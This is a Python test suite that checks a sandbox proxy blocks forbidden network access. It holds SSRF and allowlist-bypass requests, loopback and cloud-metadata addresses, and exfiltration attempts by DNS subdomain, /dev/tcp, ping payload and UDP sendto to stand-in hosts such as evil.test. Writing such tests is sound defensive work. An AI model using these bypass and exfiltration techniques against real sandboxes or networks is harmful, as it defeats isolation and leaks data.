"""The corpus' rows about the proxy and the network, tried from a pen; all of a user's rows run in one child.

`SAID` has the rows that are bytes for the proxy, and how its answer begins. The others are functions named by
their row: `NE_007` tries NE-007. `ELSEWHERE` has the rows not tried here, and why.

INVARIANT: whatever a row tries, unless it is a control: nothing appears on the machine's own network, and no
name is looked up.
"""

import base64
import json
import os
import sys
import traceback
from collections.abc import Callable

import pinfold
from tests.network.probes.programs import SkipError, pages
from tests.network.tls_hellos import real_hello
from tests.probe_module import PYTHON
from tests.session.fake_internet import Machine, banner
from tests.session.probes.hosts import PLAIN, fine, python

NO_RULES = "there are no rules about methods or paths: an allowed host is reached whole"
ELSEWHERE = {
    **dict.fromkeys(("PX-077", "PX-078", "PX-080", "PX-082", "PX-083"), NO_RULES),
    "NE-023": "git and ssh over the gate: tests/session/probes/network_clients.py",
    "NE-028": "about an answer that is to be kept: tests/approval",
    "PX-073": "about a fetch tool, which is not built",
    "PX-094": "about layers of settings: tests/settings/test_claims.py",
    "PX-095": "about layers of settings: tests/settings/test_claims.py",
    "PX-099": "limits: tests/network/test_gate.py",
    "PX-101": "nobody opens TLS, so there is no such key",
    "PX-103": "the client's own matter: bytes pass unread",
}


def connect(host: str, port: int = 443) -> bytes:
    return f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode()


def get(target: str, *headers: str) -> bytes:
    return "\r\n".join((f"GET {target} HTTP/1.1", *headers, "", "")).encode()


NO, BROKEN = b"HTTP/1.1 403", b"HTTP/1.1 400"
SOCKS_NO = b"\5\0\5\2"
PRIVATE = (
    "10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "169.254.169.254", "240.0.0.1", "[fc00::1]",
    "[fe80::1]", "[ff02::1]",
)  # fmt: skip
SAID: dict[str, tuple[tuple[bytes, bytes], ...]] = {
    "PX-003": ((connect("allowed.test.evil.test"), NO),),
    "PX-004": ((connect("notallowed.test"), NO),),
    "PX-010": ((connect("bad.ok.test."), NO),),
    "PX-011": ((connect("bad.ok.test.."), BROKEN),),
    "PX-015": ((b"CONNECT  allowed.test :443 HTTP/1.1\r\n\r\n", BROKEN),),
    "PX-017": ((b"CONNECT evil.test\0.ok.test:443 HTTP/1.1\r\n\r\n", BROKEN),),
    "PX-019": ((connect("evil.test%00.ok.test"), BROKEN),),
    "PX-021": tuple((connect(f"evil.test{c}.ok.test"), BROKEN) for c in ("\t", "\\", " ", "\u2003")),
    "PX-028": ((get("http://allowed.test/", "Host: evil.test"), BROKEN),),
    "PX-030": ((get("http://allowed.test:8080/", "Host: allowed.test"), BROKEN),),
    "PX-034": (
        (b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\n evil\r\n\r\n", BROKEN),
        (b"GET http://allowed.test/ HTTP/1.1\nHost: allowed.test\n\n", BROKEN),
        (b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n evil\r\n\r\n", BROKEN),
    ),
    "PX-048": ((connect("0177.0.0.1", 80), NO),),
    "PX-050": ((connect("0x7f.0.1", 80), NO),),
    "PX-051": ((connect("0.0.0.0", 80), NO), (connect("[::]", 80), NO)),
    "PX-052": ((connect("[::1]", 80), NO),),
    "PX-053": ((connect("[::ffff:127.0.0.1]", 80), NO), (connect("[::ffff:7f00:1]", 80), NO)),
    "PX-056": ((connect("[2002:7f00:0001::]", 80), NO),),
    "PX-058": ((connect("[fe80::1%25eth0]", 80), BROKEN), (connect("[fe80::1%eth0]", 80), BROKEN)),
    "PX-059": ((connect("::1"), BROKEN), (connect("[::1]"), NO)),
    "PX-060": (*((connect(each), NO) for each in PRIVATE), (connect("198.18.0.1"), BROKEN)),
    "PX-061": tuple(
        (connect(each), NO) for each in ("localhost", "LOCALHOST.", "foo.localhost", "localhost.localdomain")
    ),
    "PX-066": ((connect("\uff11\uff12\uff17.0.0.1"), BROKEN), (connect("\u2460\u2461\u2466.0.0.1"), BROKEN)),
    "PX-070": ((connect("bad\u00ad.ok.test"), BROKEN),),
    "PX-071": ((connect(f"{'a' * 64}.ok.test"), BROKEN), (connect(f"{'a.' * 150}ok.test"), BROKEN)),
    "PX-085": ((b"\5\1\0\5\3\0\1\0\0\0\0\0\0", b"\5\0\5\7"),),
    "PX-087": ((b"\5\1\0\5\1\0\1\xcb\0\x71\x09\1\xbb", SOCKS_NO),),
    "PX-088": ((b"\5\1\0\5\1\0\3\x09127.0.0.1\1\xbb", SOCKS_NO),),
    "PX-089": ((b"\4\1\1\xbb\0\0\0\1\0evil.test\0", b"\0\x5b"),),
}
SPEAK = """
    import base64, socket, sys
    for given in sys.argv[1:]:
        with socket.create_connection(("198.18.0.1", 3128)) as sock:
            sock.settimeout(20)
            for piece in given.split(","):
                sock.sendall(base64.b64decode(piece))
                try:
                    said = sock.recv(4096)
                    if said == b"\\5\\0": said += sock.recv(4096)
                except ConnectionResetError: said = b"reset"
            print(base64.b64encode(said).decode())
"""


def opened(*more: str, allow: tuple[str, ...] = ("allowed.test", "*.ok.test")) -> pinfold.Session:
    network = {"access": "rules", "allow": [*allow, *more], "deny": ["bad.ok.test"]}
    return pinfold.Session([os.getcwd()], settings={"network": network})


def spoken(session: pinfold.Session, *given: tuple[bytes, ...]) -> list[bytes]:
    """What the proxy says last in each of these conversations."""
    words = [",".join(base64.b64encode(piece).decode() for piece in pieces) for pieces in given]
    return [base64.b64decode(line) for line in fine(session, python(SPEAK, *words)).split()]


def silent(session: pinfold.Session, line: str) -> None:
    """It fails, and nothing was heard of it outside."""
    result = session.run(line)
    assert result.ran and result.exit_code, result


def NE_002(session: pinfold.Session) -> None:
    silent(session, "env -u HTTPS_PROXY -u HTTP_PROXY -u ALL_PROXY curl -sS -m3 https://example.com")
    silent(session, f"{PLAIN} curl -sS -m3 https://example.com")


def NE_005(session: pinfold.Session) -> None:
    silent(session, "curl -sS -m3 -x http://203.0.113.9:3128 http://allowed.test")
    silent(session, f"{PLAIN} curl -sS -m3 -x http://203.0.113.9:3128 http://allowed.test")


def NE_007(session: pinfold.Session) -> None:
    silent(session, "exec 3<>/dev/tcp/203.0.113.9/80")


def NE_008(session: pinfold.Session) -> None:
    session.run(python("import socket; socket.socket(2, 2).sendto(b'x', ('203.0.113.9', 53))"))


def NE_010(session: pinfold.Session) -> None:
    session.run("ping -c1 -W1 -p 41424344 203.0.113.9")


def NE_011(session: pinfold.Session) -> None:
    silent(session, "getent hosts c2VjcmV0.evil.test")


def NE_012(session: pinfold.Session) -> None:
    code = """
        import socket
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.bind(("0.0.0.0", 0)); sock.settimeout(3)
            question = b"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\10c2VjcmV0\\4evil\\4test\\0\\0\\20\\0\\1"
            for server in ("127.0.0.53", "8.8.8.8", "203.0.113.9"):
                sock.sendto(question, (server, 53))
                print(sock.recv(512)[3] & 15)
    """
    assert set(fine(session, python(code)).split()) == {"3"}, "there is no such name, whoever is asked"


def NE_014(session: pinfold.Session) -> None:
    code = """
        import socket
        for path in ("/run/systemd/resolve/io.systemd.Resolve", "/var/run/nscd/socket"):
            with socket.socket(socket.AF_UNIX) as sock: assert sock.connect_ex(path)
    """
    fine(session, python(code))


def NE_015(session: pinfold.Session) -> None:
    code = """
        import socket
        with socket.socket() as sock: sock.sendto(b"secret", 0x20000000, ("203.0.113.9", 80))
    """
    silent(session, python(code))


def NE_017(session: pinfold.Session) -> None:
    silent(session, "curl -sS -6 -m3 https://[2606:4700:4700::1111]/")
    silent(session, f"{PLAIN} curl -sS -6 -m3 https://[2606:4700:4700::1111]/")


def NE_019(session: pinfold.Session) -> None:
    """The machine's server is reached by none of them, the session's own by each."""
    with banner("") as port:
        for host in ("127.0.0.1", "0.0.0.0", "[::]", "[::1]"):
            silent(session, f"{PLAIN}curl -sS -m3 http://{host}:{port}")
    serve = (
        f"{PYTHON} -m http.server --bind :: 8000 >/dev/null 2>&1 &"
        f" until {PLAIN}curl -s -m3 -o /dev/null http://127.0.0.1:8000; do sleep 0.1; done;"
    )
    tries = "; ".join(f"{PLAIN}curl -sS -m3 -o /dev/null http://{host}:8000 && echo yes"
                      for host in ("127.0.0.1", "0.0.0.0", "[::]"))  # fmt: skip
    assert fine(session, f"{serve} {tries}; kill %1").split() == ["yes"] * 3


def NE_021(session: pinfold.Session) -> None:
    for host in ("169.254.169.254", "[fd00:ec2::254]", "100.100.100.200"):
        silent(session, f"curl -sSf -m2 http://{host}/")
        silent(session, f"{PLAIN}curl -sSf -m2 http://{host}/")
    assert "169.254" not in fine(session, "echo $NO_PROXY $no_proxy")


def NE_026(session: pinfold.Session) -> None:
    code = """
        import socket, threading
        server = socket.create_server(("127.0.0.1", 9000))
        def relay():
            sock, _ = server.accept()
            with sock, socket.create_connection(("198.18.0.1", 3128)) as proxy:
                proxy.sendall(sock.recv(4096)); sock.sendall(proxy.recv(4096))
        threading.Thread(target=relay).start()
        with socket.create_connection(("127.0.0.1", 9000)) as sock:
            sock.sendall(b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n")
            print(sock.recv(12).decode())
    """
    assert fine(session, python(code)) == "HTTP/1.1 403\n"


def PX_091(_: pinfold.Session) -> None:
    with opened(allow=()) as session:
        assert fine(session, "echo $PINFOLD_PEN_NETWORK") == "0\n"
        silent(session, "curl -sS -m3 -x http://198.18.0.1:3128 https://allowed.test")


def PX_092(_: pinfold.Session) -> None:
    for pattern in ("*", "*.*", "**", "[*]", "*.com", "*.co.uk"):
        try:
            opened(allow=(pattern,))
        except pinfold.PolicyError:
            continue
        raise AssertionError(f"{pattern} was taken")


# Those that reach a server: it is the machine's, on a port that a rule names.


def PX_012(_: pinfold.Session) -> None:
    with banner() as port, opened(f"127.0.0.1:{port}") as session:
        assert spoken(session, (connect("ALLOWED.test.", port),))[0].startswith(b"HTTP/1.1 200")


def PX_038(_: pinfold.Session) -> None:
    with pages(True) as port, opened(f"127.0.0.1:{port}") as session:
        said = spoken(
            session,
            (connect("allowed.test", port), real_hello("evil.test")),
            (connect("allowed.test", port), real_hello("allowed.test")),
        )
        assert said[0] in (b"", b"reset") and said[1][:1] == b"\x16", said


def PX_039(_: pinfold.Session) -> None:
    """A hello without a name is closed; the journal tells why."""
    with pages(True) as port, opened(f"127.0.0.1:{port}") as session:
        assert spoken(session, (connect("allowed.test", port), real_hello(None)))[0] in (b"", b"reset")


def PX_041(_: pinfold.Session) -> None:
    """Bytes that name no host pass, to the host that was allowed and to no other."""
    with banner() as port, opened(f"127.0.0.1:{port}") as session:
        said = spoken(session, (connect("allowed.test", port), b"SSH-2.0-x\r\n", b"\0"))
        assert said[0] in (b"WELCOME\n", b"SSH-2.0-x\r\n", b"\0") or b"SSH-2.0-x" in said[0], said


def PX_069(_: pinfold.Session) -> None:
    with banner() as port:
        for rule in ("b\u00fccher.test", "xn--bcher-kva.test"):
            with opened(f"127.0.0.1:{port}", allow=(rule,)) as session:
                said = spoken(session, (connect("xn--bcher-kva.test", port),))
                assert said[0].startswith(b"HTTP/1.1 200"), (rule, said)


def PX_097(_: pinfold.Session) -> None:
    """The server says back what it was sent."""
    with banner() as port, opened(f"127.0.0.1:{port}") as session:
        url = f"http://allowed.test:{port}/"
        said = session.run(f"curl -sS -m5 --http0.9 -x http://me:s3cr3t@198.18.0.1:3128 {url}")
        assert "czNjcjN0" not in said.stdout and "Proxy-Authorization" not in said.stdout, said


CONTROLS = ("PX_012", "PX_038", "PX_039", "PX_041", "PX_069", "PX_097")


def tried(machine: Machine, what: Callable[[], None], is_control: bool) -> str:
    """Why a row failed; empty if it did not."""
    machine.packets()
    machine.looked_up.clear()
    try:
        what()
        if not is_control:
            found = machine.packets()
            assert not found and not machine.looked_up, (found, machine.looked_up)
    except Exception:  # noqa: BLE001  (the next row is to be tried too)
        return traceback.format_exc()
    return ""


def said_as_expected(session: pinfold.Session, pairs: tuple[tuple[bytes, bytes], ...]) -> None:
    found = spoken(session, *((given,) for given, _ in pairs))
    for (given, expected), said in zip(pairs, found, strict=True):
        assert said.startswith(expected), (given, expected, said)


def main() -> int:
    try:
        machine = Machine()
    except (OSError, SkipError) as error:
        print(f"this user may not make namespaces: {error}")
        return 77
    found = {}
    with opened() as session:
        for row, pairs in SAID.items():
            found[row] = tried(machine, lambda pairs=pairs: said_as_expected(session, pairs), False)  # type: ignore[misc]
        for name, function in sorted(globals().items()):
            if name[:3] in ("NE_", "PX_"):
                quiet = name not in (*CONTROLS, "NE_019")
                found[name.replace("_", "-")] = tried(machine, lambda f=function: f(session), not quiet)  # type: ignore[misc]
    print(json.dumps(found))
    return 0


if __name__ == "__main__":
    sys.exit(main())
